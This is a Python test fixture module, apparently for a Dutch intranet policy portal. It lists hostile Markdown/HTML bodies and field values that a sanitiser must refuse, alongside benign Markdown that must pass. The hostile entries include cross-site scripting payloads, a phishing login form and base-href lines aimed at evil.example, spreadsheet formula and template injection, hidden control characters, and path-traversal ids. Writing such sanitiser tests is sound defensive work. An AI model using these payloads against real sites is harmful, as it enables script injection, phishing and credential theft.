"""Hostile inputs, by kind: what an insider could try to put in a policy or a data file.

Every payload that could run sets `window.__pwned`, so a browser test can prove
that none ran. The counts of each list are reported by the tests that use them.
"""

from __future__ import annotations

PWN = "window.__pwned=(window.__pwned||0)+1"

HOSTILE_BODIES: tuple[str, ...] = (
    f"<script>{PWN}</script>",
    f"<SCRIPT>{PWN}</SCRIPT>",
    f"<script src=\"data:text/javascript,{PWN}\"></script>",
    f"<img src=x onerror=\"{PWN}\">",
    f"<img src=\"x\" OnError='{PWN}'>",
    f"<svg onload=\"{PWN}\"><circle r=\"1\"/></svg>",
    f"<svg><script>{PWN}</script></svg>",
    f"<math><mtext><script>{PWN}</script></mtext></math>",
    f"<iframe srcdoc=\"<script>parent.{PWN}</script>\"></iframe>",
    f"<iframe src=\"javascript:parent.{PWN}\"></iframe>",
    f"<object data=\"data:text/html,<script>parent.{PWN}</script>\"></object>",
    f"<embed src=\"data:text/html,<script>parent.{PWN}</script>\">",
    f"<details open ontoggle=\"{PWN}\"><summary>x</summary>y</details>",
    f"<div onmouseover=\"{PWN}\">beweeg hier</div>",
    f"<p onclick=\"{PWN}\" style=\"position:fixed;inset:0\">klik</p>",
    f"<a href=\"javascript:{PWN}\">klik</a>",
    f"<a href=\"JaVaScRiPt:{PWN}\">klik</a>",
    f"<a href=\"&#106;avascript:{PWN}\">klik</a>",
    f"<a href=\"java&#x09;script:{PWN}\">klik</a>",
    f"<a href=\"vbscript:{PWN}\">klik</a>",
    f"<a href=\"data:text/html,<script>{PWN}</script>\">klik</a>",
    f"[klik](javascript:{PWN})",
    f"[klik](JAVASCRIPT:{PWN})",
    f"[klik]: javascript:{PWN}\n\n[klik]",
    f"[klik](&#x6A;avascript:{PWN})",
    f"![plaatje](javascript:{PWN})",
    f"[klik](https://intranet.example/){{: onclick=\"{PWN}\" }}",
    f"## Kop {{: onmouseover=\"{PWN}\" }}",
    f"Tekst\n{{: onclick=\"{PWN}\" }}",
    "<form action=\"https://evil.example/\"><input name=\"wachtwoord\"><button>Inloggen</button></form>",
    "<base href=\"https://evil.example/\">",
    f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{PWN}\">",
    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
    "<style>body{display:none}</style>",
    "<div style=\"display:none\">verborgen regel</div>",
    "<span style=\"color:white;font-size:0\">verborgen</span>",
    "![pixel](https://evil.example/p.png)",
    f"<video><source onerror=\"{PWN}\"></video>",
    f"<audio src=x onerror=\"{PWN}\"></audio>",
    f"<body onload=\"{PWN}\">",
    f"<input autofocus onfocus=\"{PWN}\">",
    f"<marquee onstart=\"{PWN}\">x</marquee>",
    f"<div markdown=\"1\"><img src=x onerror=\"{PWN}\"></div>",
    f"<table><tr><td background=\"javascript:{PWN}\">x</td></tr></table>",
    "## Kop {: #__search }",
    f"<noscript><p title=\"</noscript><img src=x onerror={PWN}>\"></noscript>",
    f"<template><script>{PWN}</script></template>",
    f"<xmp><script>{PWN}</script></xmp>",
    "<span class=\"portaal-print-stamp\">alleen op papier</span>",
    "<p class=\"portaal-banner portaal-banner--vervallen\">Dit document is vervallen.</p>",
    "Nep-banner\n{: .portaal-banner .portaal-banner--vervallen }",
    "<div class=\"md-sidebar md-sidebar--primary\">menu</div>",
    "<!-- interne notitie: niet publiceren -->",
    "Tekst <!--portaal-block-0--> met een nagemaakte markering van het portaal",
    "<!--portaal-chunk-->",
)
"""Policy bodies (Markdown with HTML) that must each be refused with a line, and cleaned."""

BENIGN_BODIES: tuple[str, ...] = (
    "Gewone tekst met *nadruk*, **vet** en `code`.",
    "| Wie | Wat |\n|:--|--:|\n| jij | meldt |\n| BVI | onderzoekt |",
    "!!! note \"Let op\"\n    Meld het altijd.",
    "??? info \"Meer\"\n    Uitklapbare tekst.",
    "Zie de regel[^1].\n\n[^1]: Artikel 5 van de gedragscode.",
    "## Kop {: #eigen-anker .belangrijk }",
    "[Meldprocedure](https://intranet.example/melden) en [mail](mailto:bvi@douane.example) en [bel](tel:0880000000)",
    "![Schema](../../assets/images/schema.png){: width=\"300\" }",
    "<details><summary>Voorbeeld</summary>\n\nTekst in een uitklapper.\n\n</details>",
    "<div markdown>\n*binnen een blok*\n</div>",
    "Term\n:   Uitleg van de term.",
    "```python\nprint('<script>alert(1)</script>')\n```",
    "Een `<script>` in code is tekst.",
    "Kosten &euro; 50 &amp; meer &lt;script&gt;",
    "<abbr title=\"Bureau Veiligheid en Integriteit\">BVI</abbr> en <mark>gemarkeerd</mark>",
    "1. een\n2. twee\n\n- a\n- b",
    "> Citaat van de directeur.",
)
"""Markdown the portal's policies use: nothing may be removed."""

HOSTILE_VALUES: tuple[str, ...] = (
    f"\"><script>{PWN}</script>",
    f"'><img src=x onerror=\"{PWN}\">",
    f"<svg onload=\"{PWN}\">",
    "{{ config }} {% raw %}",
    f"[x](javascript:{PWN})",
    f"\" onmouseover=\"{PWN}\" x=\"",
    f"</title><script>{PWN}</script>",
    f"</textarea><script>{PWN}</script>",
    "*vet* _schuin_ `code` # kop | tabel |",
    "=HYPERLINK(\"https://evil.example\")",
    "+31 88 000 0000",
    "@SUM(1+1)",
)
"""Plain-text values (titles, names, phone numbers, terms): shown as text, everywhere."""

HIDDEN_VALUES: tuple[str, ...] = (
    "regel\x01met\x1bstuurtekens\x7f",
    "\u202eomgekeerd\u200b",
    "nul\x00teken",
    "Scr\x1b [klik](https://evil.example/phish)",
)
"""Values with characters readers cannot see: refused, by check and build, with file, field and code."""

HOSTILE_KEYS: tuple[str, ...] = (
    "index", "../evil", "a\"b", "rol'x", "<b>", "Hoofdletters", "met spatie", "a/b", "-begin", "eind-",
    "dubbel--streep", "punt.naam", "",
)
"""Keys (ids) in data files that must be refused."""
